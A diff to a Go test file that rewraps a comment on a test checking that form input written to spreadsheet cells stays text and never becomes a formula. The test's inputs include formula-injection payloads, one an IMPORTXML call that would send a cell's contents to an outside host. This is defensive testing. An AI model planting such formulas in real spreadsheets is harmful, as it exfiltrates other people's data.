@@ -31,7 +31,8 @@ func TestRowsAreWrittenRaw(t *testing.T) {
 	expect.Is(t, len(w.vendors.Tabs()), 1, "tabs")
 }
 
-// What a cell begins with must not make it a formula: whoever fills in a form could read other cells with it, and send them away.
+// What a cell begins with must not make it a formula: whoever fills in a form could read other cells with it, and send
+// them away.
 func TestFormulasStayText(t *testing.T) {
 	w := newWorld(t)
 	texts := []string{`=IMPORTXML("https://example.com/?"&A1,"//a")`, `=HYPERLINK("https://example.com","x")`, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "'=1", "2026-03-31", "TRUE", "007"}
